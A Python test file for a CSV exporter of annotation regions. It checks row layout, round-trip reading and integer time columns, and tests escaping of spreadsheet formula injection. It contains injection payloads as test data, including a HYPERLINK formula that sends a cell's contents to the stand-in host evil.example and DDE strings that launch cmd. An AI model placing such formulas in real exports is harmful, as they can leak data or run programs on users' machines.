"""CSV of regions: one row per region, read back region by region."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pandas as pd

from datasets.exports.tabular import COLUMNS


def test_csv_has_one_row_per_region_with_its_fields(
        schema: dict[str, Any], records: list[dict[str, Any]], export: Callable[..., bytes]) -> None:
    kinds = {t["name"]: t["kind"] for t in schema["tracks"]}
    rows = list(csv.DictReader(io.StringIO(export("csv", schema, records).decode())))
    expected = [(rec, ann, r) for rec in records for ann in rec["annotations"] for r in ann["regions"]]
    assert len(rows) == len(expected) == 12 * 4 + 3 + 3
    assert list(rows[0]) == COLUMNS
    for row, (rec, ann, r) in zip(rows, expected, strict=True):
        assert row["item_id"] == str(rec["item_id"]) and row["external_id"] == rec["external_id"]
        assert (row["annotator"], row["annotation_kind"]) == (ann["annotator"], ann["kind"])
        assert (row["region_id"], row["track"], row["kind"]) == (r["id"], r["track"], kinds[r["track"]])
        assert row["label"] == r.get("label", "")
        for f in ("start_ms", "end_ms", "time_ms", "start_char", "end_char"):
            assert row[f] == (str(r[f]) if f in r else "")
        assert row["text"] == r.get("text", "")
        assert (json.loads(row["attributes"]) if row["attributes"] else None) == r.get("attributes")


def test_csv_reads_back_every_region_of_every_annotation(
        schema: dict[str, Any], records: list[dict[str, Any]], export: Callable[..., bytes],
        read_back: Callable[..., list[dict[str, Any]]]) -> None:
    back = read_back("csv", export("csv", schema, records), schema)
    assert [(r["item_id"], r["external_id"]) for r in back] == [(7, "clip 007"), (8, "clip-008")]
    for got, want in zip(back, records, strict=True):
        assert [(a["annotator"], a["kind"], a["model"], a["model_version"]) for a in got["annotations"]] == \
               [(a["annotator"], a["kind"], a["model"], a["model_version"]) for a in want["annotations"]]
        for ga, wa in zip(got["annotations"], want["annotations"], strict=True):
            assert ga["regions"] == wa["regions"]


HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
                 "\tTAB", "\rCR", "'=quoted already", "-12", "+3.5", "-1e3", "plain", "it's = fine"]


def _hostile_records() -> list[dict[str, Any]]:
    regions = [{"id": f"w{i}", "track": "words", "start_ms": i * 100, "end_ms": i * 100 + 50, "text": text}
               for i, text in enumerate(HOSTILE_TEXTS)]
    regions.append({"id": "@s1", "track": "speech", "label": "=1+1", "start_ms": -12, "end_ms": 40, "score": -0.5})
    return [{"item_id": 1, "external_id": "=cmd|' /C calc'!A0",
             "annotations": [{"annotator": "-ann", "kind": "human", "model": None, "model_version": None,
                              "regions": regions}]}]


def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote_and_numbers_stay_numbers(
        schema: dict[str, Any], export: Callable[..., bytes]) -> None:
    rows = list(csv.DictReader(io.StringIO(export("csv", schema, _hostile_records()).decode(), newline="")))
    assert [row["text"] for row in rows[:-1]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)",
        "'\tTAB", "'\rCR", "''=quoted already", "-12", "+3.5", "-1e3", "plain", "it's = fine"]
    last = rows[-1]
    assert (last["external_id"], last["annotator"], last["region_id"], last["label"]) == (
        "'=cmd|' /C calc'!A0", "'-ann", "'@s1", "'=1+1")
    assert (last["start_ms"], last["end_ms"], last["score"]) == ("-12", "40", "-0.5")


def test_csv_reads_back_the_raw_values_and_json_formats_keep_them_raw(
        schema: dict[str, Any], export: Callable[..., bytes], read_back: Callable[..., list[dict[str, Any]]]) -> None:
    records = _hostile_records()
    (back,) = read_back("csv", export("csv", schema, records), schema)
    assert back["external_id"] == "=cmd|' /C calc'!A0"
    assert back["annotations"][0]["annotator"] == "-ann"
    assert back["annotations"][0]["regions"] == records[0]["annotations"][0]["regions"]
    line = json.loads(export("jsonl", schema, records).decode().splitlines()[0])
    assert line["external_id"] == "=cmd|' /C calc'!A0"
    assert [r.get("text") for r in line["annotations"][0]["regions"]][:len(HOSTILE_TEXTS)] == HOSTILE_TEXTS


def test_millisecond_columns_stay_integers_next_to_empty_cells(
        schema: dict[str, Any], records: list[dict[str, Any]], export: Callable[..., bytes]) -> None:
    # a region whose times arrived as JSON floats (1200.0) must still be written as 1200
    records[1]["annotations"][0]["regions"][0].update(start_ms=1200.0, end_ms=2999.6)
    data = export("csv", schema, records)
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    x1 = next(row for row in rows if row["region_id"] == "x1")
    assert (x1["start_ms"], x1["end_ms"], x1["time_ms"]) == ("1200", "3000", "")
    ints = {f: "Int64" for f in ("start_ms", "end_ms", "time_ms", "start_char", "end_char")}
    frame = pd.read_csv(io.BytesIO(data), dtype=ints, keep_default_na=False, na_values={f: [""] for f in ints})
    x1_row = frame[frame["region_id"] == "x1"].iloc[0]
    assert (int(x1_row["start_ms"]), int(x1_row["end_ms"])) == (1200, 3000)
    assert pd.isna(x1_row["time_ms"])
    assert frame["start_ms"].dropna().map(lambda v: isinstance(v, int) or float(v).is_integer()).all()
    assert str(frame["start_ms"].dtype) == "Int64"
